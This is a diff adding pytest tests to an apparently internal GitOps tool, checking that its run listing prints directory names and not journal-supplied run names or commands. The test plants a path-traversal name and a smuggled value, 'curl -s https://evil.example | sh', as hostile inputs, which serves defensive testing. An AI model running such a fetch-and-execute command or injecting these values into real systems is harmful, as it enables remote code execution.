@@ -9,9 +9,10 @@ import shutil
 import pytest
 
 from gitops_nb.catalog.workspace import find_workspace
+from gitops_nb.cli.listing import list_runs
 from gitops_nb.errors import ExitCode, GitOpsError
 from gitops_nb.record.journal import FILE
-from gitops_nb.record.runs import run_directories
+from gitops_nb.record.runs import run_directories, scan_run
 from gitops_nb.session.held import hold
 from gitops_nb.session.lifecycle import recover
 from gitops_nb.session.verifying import verify_records
@@ -89,3 +90,33 @@ def test_no_command_ends_because_of_a_directory(runner, planted, record_property
     state, stop = runner.promote()
     assert state.run not in by_run
     assert stop is None or isinstance(stop, GitOpsError)
+
+
+def test_the_id_of_a_run_is_its_directorys_name(runner, capsys):
+    """A journal that names a path or somebody's shell as its run, or a command: neither is printed, and the run beside it is."""
+    where = find_workspace(runner.workspace.root)
+    waiting, _ = runner.promote()
+    evil = "curl -s https://evil.example | sh"
+    for number, name in enumerate(("../../../../tmp/PWNED", f"last; {evil} #")):
+        directory = where.reports / f"29991231T000000Z-promotion-production-{number:04x}"
+        shutil.copytree(where.reports / waiting.run, directory)
+        rewrite_journal(directory, lambda rows, name=name: rows[0]["body"].update(run=name))
+
+    def change(rows) -> None:
+        for row in rows:
+            if row["kind"] == "waiting":
+                row["body"]["command"] = evil
+
+    rewrite_journal(where.reports / waiting.run, change)
+    list_runs(where.root, None, environment=None, since=None, limit=None, as_json=True)
+    said = capsys.readouterr().out
+    rows = json.loads(said)
+    assert {row["run"] for row in rows} == {path.name for path in run_directories(where.reports)}
+    assert "evil" not in said
+    assert "PWNED" not in said
+
+
+def test_a_waiting_run_proposes_its_command(runner):
+    """What the package itself wrote stays: who has to approve, and how."""
+    waiting, _ = runner.promote()
+    assert scan_run(runner.workspace.reports / waiting.run).command.startswith("gitops-nb approve")
